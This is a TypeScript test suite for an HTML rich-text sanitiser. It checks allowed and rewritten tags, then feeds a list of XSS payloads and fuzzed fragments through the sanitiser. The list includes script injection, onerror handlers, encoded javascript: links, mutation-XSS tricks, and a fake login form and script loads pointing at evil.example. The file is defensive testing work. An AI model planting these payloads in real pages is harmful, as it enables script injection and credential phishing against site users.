import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { cleanRichText } from '../../src/index.ts';

// docs/product/content.md#rich-text

const ASSET = '/content/assets/0b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d';

describe('what stays', () => {
  it.each([
    '<p>Rigs <strong>up</strong>, <em>rates</em> <u>down</u>, <s>gone</s>, CO<sub>2</sub>, m<sup>3</sup></p>',
    '<h2>One</h2><h3>Two</h3><h4>Three</h4>',
    '<ul><li>a</li></ul><ol start="3"><li>b</li></ol>',
    '<blockquote><p>said</p></blockquote><pre><code>x = 1</code></pre><hr />a<br />b',
    '<p><a href="/deals">here</a>, <a href="#terms">below</a>, <a href="mailto:ann@rim.example">mail</a>, <a href="tel:+17135550100">call</a></p>',
    '<p><a href="https://example.com/a?b=1" rel="noopener">outside</a></p>',
    `<p><a href="${ASSET}">The PDF</a></p>`,
    `<figure><img src="${ASSET}" alt="A rig" width="640" height="400" /><figcaption>A rig</figcaption></figure>`,
    `<p><img src="${ASSET}?width=640&amp;fit=cover" alt="" /></p>`,
    '<table><thead><tr><th colspan="2" scope="col">Year</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
  ])('%s', (html) => expect(cleanRichText(html)).toBe(html));
});

describe('what becomes another tag', () => {
  it.each([
    ['<h1>Title</h1>', '<h2>Title</h2>'],
    ['<p><b>a</b><i>b</i><del>c</del></p>', '<p><strong>a</strong><em>b</em><s>c</s></p>'],
    ['<div><span style="color:red">text</span></div>', 'text'],
    [
      '<a href="HTTPS://example.com" target="_blank" rel="opener">x</a>',
      '<a href="HTTPS://example.com" rel="noopener">x</a>',
    ],
  ])('%s', (html, clean) => expect(cleanRichText(html)).toBe(clean));
});

describe('nothing is left of what shows nothing', () => {
  it.each([
    '',
    '   ',
    '<p></p>',
    '<p>&nbsp; <br></p>',
    '<script>alert(1)</script>',
    '<img src="https://evil.example/x.png">',
  ])('%j', (html) => expect(cleanRichText(html)).toBeNull());
});

/** From the OWASP cheat sheet and the tests of several sanitisers. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  `<img src="${ASSET}" onload="alert(1)">`,
  `<img src="${ASSET}/../../../api/Auth/Logout">`,
  '<img src="/content/assets/../../api/Auth/Logout">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  `<img srcset="https://evil.example/x 1x" src="${ASSET}">`,
  '<svg onload=alert(1)><circle /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/x" onclick="alert(1)" style="position:fixed">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<style>@import "https://evil.example";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<p id="root" class="dialog" data-x="1">x</p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><img src=x onerror=alert(1)>',
  '<p title="&quot; onmouseover=alert(1)">x</p>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
];

const TAGS =
  /^(?:p|h[234]|[uo]l|li|blockquote|pre|hr|br|figure|figcaption|img|a|strong|em|u|s|su[bp]|code|table|caption|t(?:head|body|foot|r|h|d))$/;
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  href: /^(?:\/(?![/\\])|#|https?:|mailto:|tel:)/i,
  rel: /^noopener$/,
  src: /^\/content\/assets\/[\da-f-]{36}(?:\?|$)/,
  title: /./s,
  alt: /^/,
  width: /^/,
  height: /^/,
  start: /^/,
  colspan: /^/,
  rowspan: /^/,
  scope: /^/,
};

/** Every tag and attribute that a browser's parser could see. Attribute values are quoted and hold neither quotes nor angle brackets. */
function assertHarmless(html: string | null): void {
  if (html === null) return;
  for (const [tag] of html.matchAll(/<[^>]*>?/g)) {
    const [, name = '', attributes = ''] = /^<\/?([a-z]\w*)((?: [a-z]+="[^"<>]*")*) ?\/?>$/.exec(tag) ?? [];
    expect([tag, name]).toEqual([tag, expect.stringMatching(TAGS)]);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g))
      expect([attribute, value]).toEqual([attribute, expect.stringMatching(ATTRIBUTES[attribute] ?? /(?!)/)]);
  }
  expect(cleanRichText(html)).toBe(html);
}

describe('no script, style, frame or strange address stays', () => {
  it.each(ATTACKS)('%s', (html) => {
    assertHarmless(cleanRichText(html));
    assertHarmless(cleanRichText(`<p>before ${html} after</p>`));
  });

  it('however they are cut up and put together', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '</',
        '/>',
        '<!--',
        '-->',
        '&lt;',
        '&#x3c;',
        '<p>',
        '</p>',
        '<table>',
        '\u0000',
        '=',
        ' ',
      ),
      fc.string({ maxLength: 8 }),
    );
    const cut = fc.tuple(piece, fc.nat(60)).map(([text, end]) => text.slice(0, end));
    fc.assert(
      fc.property(fc.array(cut, { maxLength: 12 }), (pieces) => assertHarmless(cleanRichText(pieces.join('')))),
      { numRuns: 2_000 },
    );
  });
});

it('takes a hundred thousand characters and deep nesting without trouble', () => {
  assertHarmless(cleanRichText('<p>'.repeat(33_000)));
  assertHarmless(cleanRichText('<ul><li>'.repeat(12_000)));
  assertHarmless(cleanRichText('<'.repeat(100_000)));
  assertHarmless(cleanRichText('<a href="'.repeat(11_000)));
});
